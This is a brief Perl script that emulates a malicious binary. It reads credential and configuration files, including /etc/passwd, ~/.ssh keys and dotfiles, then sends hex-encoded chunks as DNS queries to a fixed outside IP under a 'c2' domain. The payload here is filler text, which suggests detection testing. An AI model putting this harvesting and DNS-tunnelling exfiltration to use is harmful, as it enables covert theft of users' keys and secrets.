# What the attack's ELF did; here perl under its name.
use strict;
use Socket;

my $home = $ENV{HOME};
my @files = ("/etc/hosts", "/etc/passwd", "$home/.gitconfig", glob("$home/.ssh/*"), grep { -f } glob("$home/{.,}*"));
for my $file (@files) {
    open(my $handle, "<", $file) or next;
    my @lines = <$handle>;
}

# Straight to a server of its own choice.
my $data = unpack("H*", "nothing of worth, again and again. " x 8);
socket(my $socket, PF_INET, SOCK_DGRAM, 17) or die;
my $server = sockaddr_in(53, inet_aton("45.33.32.158"));
my $number = 0;
for my $piece ($data =~ /(.{1,40})/g) {
    my @labels = ($number++ . "x$piece", "t", "c2", "example");
    my $name = join("", map { pack("C/a*", $_) } @labels) . "\0";
    send($socket, pack("n6", $number, 0x100, 1, 0, 0, 0) . $name . pack("n2", 1, 1), 0, $server);
}
